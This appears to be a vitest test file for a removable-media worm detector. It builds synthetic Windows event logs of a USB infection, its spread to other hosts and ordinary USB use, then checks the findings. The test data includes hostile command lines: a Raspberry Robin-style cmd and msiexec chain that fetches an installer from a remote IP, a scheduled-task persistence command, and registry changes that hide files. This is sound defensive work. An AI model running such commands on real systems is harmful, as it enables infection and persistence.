import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { detector } from "../../../src/detect/removable-media-worm/index.js";
import { isOddFolder } from "../../../src/detect/removable-media-worm/judge.js";
import { ENGINES } from "../../support/stores.js";
import { later, type MadeEvent, told, WindowsWorld } from "../windows/world.js";

const uid = (name: string): string => `{11111111-0000-0000-0000-${name}}`;
const hash = (letter: string): string => `SHA256=${letter.repeat(64)}`;
const at = (seconds: number, host = "WS-01") => ({ time: later(seconds), host });
type At = ReturnType<typeof at>;

const start = (when: At, process: string, Image: string, more: Record<string, string> = {}): MadeEvent => ({
  id: 1,
  ...when,
  data: {
    Image,
    ProcessGuid: uid(process),
    CommandLine: `"${Image}"`,
    ParentImage: "C:\\Windows\\explorer.exe",
    ParentProcessGuid: uid("explorer"),
    User: "CORP\\anna",
    ...more,
  },
});
const load = (when: At, process: string, Image: string, ImageLoaded: string, signed: boolean): MadeEvent => ({
  id: 7,
  ...when,
  data: {
    Image,
    ImageLoaded,
    ProcessGuid: uid(process),
    Signed: `${signed}`,
    SignatureStatus: signed ? "Valid" : "Unavailable",
  },
});
const file = (when: At, process: string, Image: string, TargetFilename: string): MadeEvent => ({
  id: 11,
  ...when,
  data: { Image, TargetFilename, ProcessGuid: uid(process), User: "CORP\\anna" },
});
const value = (
  when: At,
  process: string,
  Image: string,
  TargetObject: string,
  Details: string,
): MadeEvent => ({
  id: 13,
  ...when,
  data: {
    EventType: "SetValue",
    Image,
    TargetObject,
    Details,
    ProcessGuid: uid(process),
    User: "CORP\\anna",
  },
});
const plugged = (when: At): MadeEvent => ({
  id: 6416,
  channel: "Security",
  ...when,
  data: {
    DeviceId: "USBSTOR\\Disk&Ven_Kingston&Prod_DataTraveler_3.0&Rev_PMAP\\60A44C413A8CF2B0&0",
    DeviceDescription: "Kingston DataTraveler 3.0 USB Device",
    ClassName: "DiskDrive",
  },
});

const ADVANCED = "HKU\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced";
const RUN = "HKU\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
const COPY = "C:\\ProgramData\\Viewer\\viewer.exe";

/** A stick is plugged in and its only visible file opened; it loads what is hidden, copies itself, hides and stays. */
const infection = (host: string, drive = "F"): MadeEvent[] => {
  const program = `${drive}:\\Photos.exe`;
  const when = (seconds: number) => at(seconds, host);
  const [first, second] = [`a${host}`, `b${host}`];
  return [
    start(when(-3600), `x${host}`, "C:\\Windows\\System32\\svchost.exe"),
    plugged(when(0)),
    start(when(60), first, program, { Hashes: hash("a"), Company: "Viewer Ltd" }),
    load(when(60), first, program, program, true),
    load(when(61), first, program, `${drive}:\\__\\__\\viewer.dll`, false),
    file(when(62), first, program, COPY),
    file(when(62), first, program, "C:\\ProgramData\\Viewer\\viewer.dll"),
    start(when(64), second, COPY, { ParentProcessGuid: uid(first), ParentImage: program, Hashes: hash("a") }),
    value(when(70), second, COPY, `${ADVANCED}\\Hidden`, "DWORD (0x00000002)"),
    value(when(71), second, COPY, `${ADVANCED}\\HideFileExt`, "DWORD (0x00000001)"),
    value(when(75), second, COPY, `${RUN}\\Viewer`, `"${COPY}"`),
  ];
};

/** The copy fills the next stick. */
const filling = (host: string): MadeEvent[] => [
  start(at(-3600, host), `x${host}`, "C:\\Windows\\System32\\svchost.exe"),
  plugged(at(4000, host)),
  ...["E:\\Photos.exe", "E:\\__\\__\\viewer.exe", "E:\\__\\__\\viewer.dll", "E:\\__\\__\\$.ini"].map(
    (path, n) => file(at(4010 + n, host), `b${host}`, COPY, path),
  ),
];

describe("folders", () => {
  it.each([
    "e:\\_\\_\\x.dll",
    "e:\\\u00a0\\x.exe",
    "e:\\recycler\\x.exe",
    "e:\\recycle.bin\\x.exe",
    "e:\\files.{21ec2020-3aea-1069-a2dd-08002b30309d}\\x.exe",
    "e:\\\u200b\\documents\\x.exe",
  ])("%s hides what is in it", (path) => {
    expect(isOddFolder(path)).toBe(true);
  });
  it.each([
    "e:\\x.exe",
    "e:\\_backup\\x.exe",
    "e:\\2024\\x.exe",
    "e:\\фото\\x.exe",
    "e:\\文件\\x.exe",
    "e:\\$recycle.bin\\s-1-5-21-1-2-3-1001\\$r1.exe",
    "e:\\program\\__.exe",
  ])("%s is ordinary", (path) => {
    expect(isOddFolder(path)).toBe(false);
  });
});

describe.each(ENGINES)("removable-media-worm: $name", (engine) => {
  let world: WindowsWorld;
  beforeAll(async () => {
    world = await WindowsWorld.open(engine);
  });
  afterAll(() => world.close());
  beforeEach(() => world.clear());
  const find = async (events: readonly MadeEvent[], choice: Parameters<WindowsWorld["run"]>[1] = {}) => {
    await world.store(events);
    return (await world.run(detector, choice)).findings;
  };

  it("a signed program of a stick that loads what is hidden there, copies itself, hides and stays is high", async () => {
    const [finding, ...more] = await find(infection("WS-01"), { organisations: { ministry: "default" } });
    expect(more).toEqual([]);
    expect(finding).toMatchObject({
      title: "photos.exe came from a drive, like a worm: WS-01",
      severity: "high",
      org_id: "ministry",
      attack: ["T1091", "T1574.001", "T1564.001", "T1547.001"],
      facts: { signs: ["folder", "hides", "pair", "copy", "autostart"], removable: true, plugged_in: 1 },
    });
    expect(finding?.entities).toEqual(
      expect.arrayContaining([
        { kind: "host", value: "WS-01", realm: "default", role: "victim" },
        { kind: "account", value: "CORP\\anna", realm: "default", role: "user" },
        { kind: "file", value: "a".repeat(64), role: "hash" },
      ]),
    );
    expect(finding?.evidence[0]?.summary).toContain("storage plugged in");
  });

  it("without any event of the drive it is medium, and says so", async () => {
    const [finding] = await find(infection("WS-01").filter(({ id }) => id !== 6416));
    expect(finding).toMatchObject({ severity: "medium", facts: { removable: false } });
    expect(finding?.caveats.join()).toContain("No event says that the drive is removable");
  });

  it("one finding tells of all hosts: those it was started on, and those where drives were filled", async () => {
    const findings = await find([
      ...infection("WS-02", "E"),
      ...infection("WS-03", "G"),
      ...filling("WS-01"),
    ]);
    expect(told(findings)).toEqual(["high: photos.exe came from a drive, like a worm: WS-02 and 2 more"]);
    expect(findings[0]?.components.find(({ name }) => name === "spread")?.value).toBe(1);
    expect(findings[0]?.facts).toMatchObject({ hosts: 3 });
  });

  it("a task is an autostart as well, unless it starts what is installed", async () => {
    const task = (program: string) =>
      start(at(75), "task", "C:\\Windows\\System32\\schtasks.exe", {
        CommandLine: `schtasks /F /Create /TN Viewer /sc minute /MO 5 /TR "${program}"`,
        ParentProcessGuid: uid("bWS-01"),
      });
    const others = infection("WS-01").filter(({ data }) => !data.TargetObject?.startsWith(RUN));
    const [finding] = await find([...others, task(COPY)]);
    expect(finding?.attack).toEqual(["T1091", "T1574.001", "T1564.001", "T1053.005"]);
    await world.clear();
    const [other] = await find([...others, task("C:\\Program Files\\App\\app.exe")]);
    expect(other?.attack).toEqual(["T1091", "T1574.001", "T1564.001"]);
  });

  it("a harmless program of the same name on other hosts is no spread", async () => {
    const harmless = start(at(50, "WS-05"), "other", "F:\\Photos.exe", { Hashes: hash("e") });
    const [finding] = await find([...infection("WS-01"), harmless]);
    expect(finding?.components.find(({ name }) => name === "spread")?.value).toBe(0);
    expect(finding?.facts).toMatchObject({ hosts: 1 });
  });

  it("a program that fills drives is told where it was not seen to come from one", async () => {
    expect(told(await find(filling("WS-01")))).toEqual(["low: viewer.exe fills drives, like a worm: WS-01"]);
  });

  it("a link that feeds cmd from a file of the stick and has an installer fetched (as Raspberry Robin does)", async () => {
    const findings = await find([
      plugged(at(0)),
      start(at(50), "cmd", "C:\\Windows\\System32\\cmd.exe", {
        CommandLine: "C:\\WINDOWS\\system32\\cmd.exe /R cMd <qWRp.cHk",
        CurrentDirectory: "E:\\",
      }),
      start(at(52), "msi", "C:\\Windows\\System32\\msiexec.exe", {
        CommandLine: "MSIexEC /q -i hTtP://198.51.100.7:8080/kQx2/WS-01=anna PASSWORD=Hunter2",
        ParentProcessGuid: uid("cmd"),
        ParentImage: "C:\\Windows\\System32\\cmd.exe",
      }),
    ]);
    expect(findings[0]).toMatchObject({
      severity: "medium",
      facts: { program: "e:\\qwrp.chk", signs: ["fed", "fetches"] },
    });
    expect(JSON.stringify(findings)).not.toContain("Hunter2");
  });

  it.each([
    ["rundll32.exe E:\\_\\desktop.dat,Start", 1],
    ['rundll32.exe "E:\\_\\tools.dll",Start', 0],
    ["rundll32.exe C:\\Windows\\System32\\shell32.dll,OpenAs_RunDLL E:\\_\\report.xyz", 0],
  ])("%s: the drive's file is loaded and is no library by its name: %d", async (CommandLine, fed) => {
    const [finding] = await find(
      [start(at(0), "r", "C:\\Windows\\System32\\rundll32.exe", { CommandLine })],
      { parameters: { least_signs: 1, least_score: 0.1 } },
    );
    expect(finding?.components.find(({ name }) => name === "fed")?.value).toBe(fed);
  });

  it("ordinary use of sticks is not told", async () => {
    const ordinary = ["WS-01", "WS-02", "WS-03"].flatMap((host): MadeEvent[] => {
      const when = (seconds: number) => at(seconds, host);
      const p = (name: string) => `${name}${host}`;
      const portable = "E:\\PortableApps\\FirefoxPortable\\FirefoxPortable.exe";
      const setup = "E:\\setup.exe";
      const unpacked = Array.from(
        { length: 14 },
        (_, n) => `C:\\Users\\anna\\AppData\\Roaming\\Vendor\\part${n}.dll`,
      );
      return [
        plugged(when(0)),
        // A portable browser: signed, with libraries that are not, and a child on the stick.
        start(when(60), p("p"), portable, { Hashes: hash("b"), Company: "PortableApps.com" }),
        load(when(60), p("p"), portable, portable, true),
        load(when(61), p("p"), portable, "E:\\PortableApps\\FirefoxPortable\\App\\nss3.dll", false),
        file(when(61), p("p"), portable, "C:\\Users\\anna\\AppData\\Local\\Temp\\nsa12.tmp\\System.dll"),
        file(when(62), p("p"), portable, "E:\\PortableApps\\FirefoxPortable\\Data\\settings.ini"),
        start(when(63), p("q"), "E:\\PortableApps\\FirefoxPortable\\App\\firefox.exe", {
          ParentProcessGuid: uid(p("p")),
        }),
        // An installer at the root that brings itself along and starts with Windows.
        start(when(100), p("s"), setup, { Hashes: hash("c"), Company: "Vendor" }),
        load(when(100), p("s"), setup, setup, true),
        ...[...unpacked, "C:\\Users\\anna\\AppData\\Roaming\\Vendor\\setup.exe"].map((path) =>
          file(when(105), p("s"), setup, path),
        ),
        value(
          when(110),
          p("s"),
          setup,
          `${RUN}\\Vendor`,
          "C:\\Users\\anna\\AppData\\Roaming\\Vendor\\app.exe",
        ),
        // The launcher of the stick's maker, which runs from a temporary folder.
        start(when(150), p("l"), "E:\\LaunchU3.exe", { Hashes: hash("d") }),
        file(when(151), p("l"), "E:\\LaunchU3.exe", "C:\\Users\\anna\\AppData\\Local\\Temp\\LaunchU3.exe"),
        start(when(152), p("m"), "C:\\Users\\anna\\AppData\\Local\\Temp\\LaunchU3.exe", {
          ParentProcessGuid: uid(p("l")),
          Hashes: hash("d"),
        }),
        // BitLocker To Go, documents, a backup, and files that the user copies.
        start(when(200), p("b"), "C:\\Windows\\System32\\cmd.exe", {
          CommandLine: "cmd /c E:\\tools\\inventory.bat",
        }),
        start(when(201), p("w"), "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", {
          CommandLine: 'WINWORD.EXE "E:\\minutes.docx"',
        }),
        file(when(202), p("e"), "C:\\Windows\\explorer.exe", "E:\\BitLockerToGo.exe"),
        file(when(203), p("e"), "C:\\Windows\\explorer.exe", "E:\\autorun.inf"),
        file(when(204), p("k"), "C:\\Program Files\\Backup\\backup.exe", "E:\\backup\\tools\\putty.exe"),
        // A user shows less in Explorer.
        value(when(205), p("e"), "C:\\Windows\\explorer.exe", `${ADVANCED}\\Hidden`, "DWORD (0x00000002)"),
        // Somebody makes a drive that computers start from, and starts it.
        ...Array.from({ length: 20 }, (_, n) =>
          file(when(300), p("r"), "C:\\Users\\anna\\Downloads\\rufus.exe", `E:\\sources\\part${n}.dll`),
        ),
        file(when(301), p("r"), "C:\\Users\\anna\\Downloads\\rufus.exe", "E:\\setup.exe"),
      ];
    });
    const result = await (async () => {
      await world.store(ordinary);
      return world.run(detector);
    })();
    expect(told(result.findings)).toEqual([]);
    expect(
      result.evaluated.find(({ what }) => what.startsWith("programs from drives"))?.count,
    ).toBeGreaterThan(9);
  });

  it("a drive of the network, and a second disk with installed programs, are no drives to look at", async () => {
    const events = infection("WS-01").filter(({ id }) => id !== 6416);
    const mapped = start(at(-100), "net", "C:\\Windows\\System32\\net.exe", {
      CommandLine: "net use F: \\\\files\\share",
    });
    expect(await find([...events, mapped])).toEqual([]);
    await world.clear();
    const installed = ["a", "b", "c"].map((name) =>
      start(at(-200), name, `F:\\Program Files\\App\\${name}.exe`),
    );
    expect(await find([...events, ...installed])).toEqual([]);
  });

  it("a host's drives say nothing of another's", async () => {
    const mapped = start(at(-100, "WS-09"), "net", "C:\\Windows\\System32\\net.exe", {
      CommandLine: "net use F: \\\\files\\share",
    });
    expect(told(await find([...infection("WS-01"), mapped]))).toHaveLength(1);
  });

  it("storage that is plugged in is known by each kind of event", async () => {
    const events: Omit<MadeEvent, "host" | "time">[] = [
      {
        id: 1006,
        channel: "Microsoft-Windows-Partition/Diagnostic",
        data: { BusType: "7", Capacity: "15500000000" },
      },
      {
        id: 2003,
        channel: "Microsoft-Windows-DriverFrameworks-UserMode/Operational",
        data: { instance: "SWD\\WPDBUSENUM\\_??_USBSTOR#DISK&VEN_KINGSTON" },
      },
      {
        id: 410,
        channel: "Microsoft-Windows-Kernel-PnP/Configuration",
        data: { DeviceInstanceId: "USBSTOR\\Disk&Ven_Kingston\\1" },
      },
      { id: 20001, channel: "System", data: { DeviceInstanceID: "USBSTOR\\DISK&VEN_KINGSTON\\1" } },
      {
        id: 13,
        data: {
          EventType: "SetValue",
          TargetObject:
            "HKLM\\SOFTWARE\\Microsoft\\Windows Portable Devices\\Devices\\SWD#WPDBUSENUM#_??_USBSTOR#DISK&VEN_KINGSTON\\FriendlyName",
          Details: "F:\\",
        },
      },
      {
        id: 13,
        data: {
          EventType: "SetValue",
          TargetObject: "HKLM\\SYSTEM\\MountedDevices\\\\DosDevices\\F:",
          Details: "Binary Data",
        },
      },
      {
        id: 12,
        data: {
          EventType: "CreateKey",
          TargetObject: "HKLM\\System\\CurrentControlSet\\Enum\\USBSTOR\\Disk&Ven_Kingston\\1",
        },
      },
    ];
    const [finding] = await find(
      events.flatMap((event, n) => {
        const host = `WS-0${n}`;
        return [...infection(host).filter(({ id }) => id !== 6416), { ...event, ...at(20, host) }];
      }),
    );
    expect(finding).toMatchObject({ severity: "high", facts: { plugged_in: events.length } });
  });

  it("storage pulled out, plugged in long before, or of another letter is not this drive", async () => {
    const others = infection("WS-01").filter(({ id }) => id !== 6416);
    const [finding] = await find([
      ...others,
      {
        id: 1006,
        channel: "Microsoft-Windows-Partition/Diagnostic",
        data: { BusType: "7", Capacity: "0" },
        ...at(20),
      },
      plugged(at(-9000)),
      value(at(30), "sys", "System", "HKLM\\SYSTEM\\MountedDevices\\\\DosDevices\\H:", "Binary Data"),
    ]);
    expect(finding).toMatchObject({ severity: "medium", facts: { plugged_in: 0 } });
  });

  it("is not tested where no event tells of started programs", async () => {
    await world.store([plugged(at(0))]);
    expect((await world.run(detector)).notTested).toContain("no event tells of started programs");
  });
});
